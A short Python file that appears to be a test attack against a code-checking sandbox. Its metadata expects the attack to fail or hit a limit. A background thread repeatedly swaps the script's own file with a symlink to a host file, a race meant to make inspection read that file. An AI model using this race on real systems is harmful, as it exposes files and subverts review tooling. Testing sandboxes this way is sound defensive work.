# /// attack
# verdict = ["failed", "limit"]
# ///
"""My source is a file and a link in turn, a thousand times a second, for whoever looks before he reads."""

import os
import threading

from tools import TARGET


def swap():
    folder = os.path.dirname(__file__)
    plain, link = os.path.join(folder, "plain"), os.path.join(folder, "link")
    with open(__file__) as file:
        source = file.read()
    while True:
        with open(plain, "w") as file:
            file.write(source)
        os.symlink(TARGET["host_file"], link)
        os.replace(link, __file__)
        os.replace(plain, __file__)


def answer():
    if threading.active_count() < 3:
        threading.Thread(target=swap, daemon=True).start()
    raise ValueError("look at me")
